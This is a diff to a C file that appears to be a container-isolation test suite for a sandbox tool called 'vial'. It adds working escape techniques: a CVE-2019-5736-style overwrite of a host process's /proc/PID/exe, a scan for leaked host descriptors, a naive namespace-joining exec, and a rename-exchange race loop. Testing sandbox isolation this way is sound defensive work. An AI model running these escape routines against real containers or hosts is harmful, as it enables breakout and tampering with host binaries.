@@ -244,56 +244,119 @@ static int trace(char** words)
     return say(is_wall(error) ? refused : not_tried, "%s", strerror(error));
 }
 
-/* hunt SECONDS [all]: waits for processes that come in from outside and tries to write to what they execute, as it was done in
- * CVE-2019-5736; to a /proc/PID/exe that could be opened it goes on trying until the process has gone on to something
- * else. Writes HUNTED into what it gets. Ends early when /tmp/hunt-over is there. `seen N` is how many it met. */
+static int is_pipe(const char* target)
+{
+    return strncmp(target, "pipe:", 5) == 0 || strncmp(target, "socket:", 7) == 0 || strncmp(target, "/dev/", 5) == 0;
+}
+
+/* Descriptors of a process that belong to the host: control groups, namespaces, vial's state. */
+static int holds_the_hosts(int pid)
+{
+    char path[64], target[256];
+    for (int fd = 3; fd < 24; ++fd) {
+        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
+        const ssize_t length = readlink(path, target, sizeof target - 1);
+        target[length > 0 ? length : 0] = 0;
+        if (is_pipe(target) || length <= 0)
+            continue;
+        if (strstr(target, "cgroup") != NULL || strstr(target, "/vial") != NULL || strstr(target, "mnt:[") != NULL) {
+            printf("descriptor %d of %d: %s\n", fd, pid, target);
+            return 1;
+        }
+    }
+    return 0;
+}
+
+/* hunt SECONDS [exe]: waits for processes that come in from outside and tries to write to what they execute, as it was done in
+ * CVE-2019-5736: a /proc/PID/exe that could be opened is kept, and tried until the process has gone on to something else and the
+ * file is no longer busy. Appends HUNTED to what it gets. Unless told `exe`, a descriptor of the host's that it
+ * finds in such a process counts as well. Ends early when /tmp/hunt-over is there. */
 static int hunt(char** words)
 {
-    const pid_t own = getpid();
+    enum { kept = 64 };
     const time_t end = time(NULL) + atoi(words[0]);
     static unsigned char met[65536];
-    int seen = 0, held_count = 0, reached = 0;
-    int held[256];
-    struct stat self, found;
-    if (stat("/proc/self/exe", &self) != 0)
-        return say(not_tried, "/proc/self/exe: %s", strerror(errno));
-    if (open("/tmp/hunting", O_CREAT | O_WRONLY, 0600) < 0)
+    int seen = 0, opened = 0, held[kept];
+    for (int index = 0; index < kept; ++index)
+        held[index] = -1;
+    if (open("/tmp/hunting", O_CREAT | O_WRONLY | O_CLOEXEC, 0600) < 0)
         return say(not_tried, "/tmp: %s", strerror(errno));
-    while (time(NULL) < end && access("/tmp/hunt-over", F_OK) != 0 && reached == 0) {
+    while (time(NULL) < end && access("/tmp/hunt-over", F_OK) != 0) {
         DIR* directory = opendir("/proc");
         struct dirent* entry;
         while (directory != NULL && (entry = readdir(directory)) != NULL) {
             char path[300];
             const int pid = atoi(entry->d_name);
-            if (pid <= 1 || pid == own || pid >= (int)sizeof met)
+            if (pid <= 1 || pid == getpid() || pid >= (int)sizeof met)
                 continue;
-            if (!met[pid])
-                ++seen;
+            seen += !met[pid];
             met[pid] = 1;
             snprintf(path, sizeof path, "/proc/%d/exe", pid);
-            int fd = open(path, O_PATH | O_CLOEXEC);
+            const int fd = open(path, O_PATH | O_CLOEXEC);
             if (fd < 0)
                 continue;
-            /* Ours, or the image's own: no prey. */
-            if (fstat(fd, &found) != 0 || (found.st_dev == self.st_dev) || held_count >= 256) {
-                close(fd);
-                continue;
-            }
-            held[held_count++] = fd;
+            if (words[1] == NULL && holds_the_hosts(pid))
+                return say(succeeded, "a descriptor of the host's");
+            int* place = &held[opened++ % kept];
+            if (*place >= 0)
+                close(*place);
+            *place = fd;
         }
         if (directory != NULL)
             closedir(directory);
-        for (int index = 0; index < held_count && reached == 0; ++index) {
+        for (int index = 0; index < kept; ++index) {
             char again[64];
+            if (held[index] < 0)
+                continue;
             snprintf(again, sizeof again, "/proc/self/fd/%d", held[index]);
-            int fd = open(again, O_WRONLY | O_CLOEXEC);
+            const int fd = open(again, O_WRONLY | O_APPEND | O_CLOEXEC);
             if (fd >= 0 && write(fd, "HUNTED", 6) == 6)
-                reached = 1;
+                return say(succeeded, "written to, after %d seen", seen);
             if (fd >= 0)
                 close(fd);
         }
     }
-    return say(reached ? succeeded : refused, "seen %d, held %d", seen, held_count);
+    return say(seen > 0 ? refused : not_tried, "seen %d, opened %d", seen, opened);
+}
+
+/* naive-exec PID PROGRAM: run on the host: what an `exec` does that takes no care. */
+static int naive_exec(char** words)
+{
+    static const char* const kinds[] = {"cgroup", "ipc", "uts", "net", "pid", "mnt"};
+    int namespaces[6];
+    char path[64];
+    for (int index = 0; index < 6; ++index) {
+        snprintf(path, sizeof path, "/proc/%s/ns/%s", words[0], kinds[index]);
+        namespaces[index] = open(path, O_RDONLY | O_CLOEXEC);
+    }
+    for (int index = 0; index < 6; ++index)
+        if (namespaces[index] < 0 || setns(namespaces[index], 0) != 0)
+            return say(not_tried, "%s: %s", kinds[index], strerror(errno));
+    const pid_t child = fork();
+    if (child == 0) {
+        execl(words[1], words[1], "brief", (char*)NULL);
+        _exit(127);
+    }
+    int status = 0;
+    waitpid(child, &status, 0);
+    return say(WIFEXITED(status) && WEXITSTATUS(status) == 0 ? succeeded : not_tried, "status %x", status);
+}
+
+/* brief: a process that is there for a moment. */
+static int brief(char** words)
+{
+    (void)words;
+    usleep(20000);
+    return 0;
+}
+
+/* swap A B: run on the host: exchanges the two names as fast as it can, for ever. */
+static int swap(char** words)
+{
+    for (;;)
+        if (syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], 2 /* RENAME_EXCHANGE */) != 0)
+            return say(not_tried, "%s", strerror(errno));
+    return not_tried;
 }
 
 /* kill PID...: end processes of the host by their numbers there. (kill(-1) would end our own shell as well.) */
@@ -690,6 +753,7 @@ static const struct {
     int (*run)(char** words);
     int words;
 } attacks[] = {
+    {"brief", brief, 0},
     {"chroot", leave_chroot, 1},
     {"control-group", control_group, 0},
     {"descriptors", descriptors, 0},
@@ -703,6 +767,7 @@ static const struct {
     {"idle", idle, 0},
     {"kill", kill_them, 1},
     {"mount-below", mount_below, 1},
+    {"naive-exec", naive_exec, 2},
     {"new-user-clone", new_user_clone, 0},
     {"outside", outside, 1},
     {"process", process, 1},
@@ -711,6 +776,7 @@ static const struct {
     {"remount-exe", remount_exe, 1},
     {"remount-exe-nested", remount_exe_nested, 1},
     {"set-uid", set_uid, 0},
+    {"swap", swap, 2},
     {"trace", trace, 1},
     {"type-ahead", type_ahead, 0},
     {"unmask", unmask, 1},
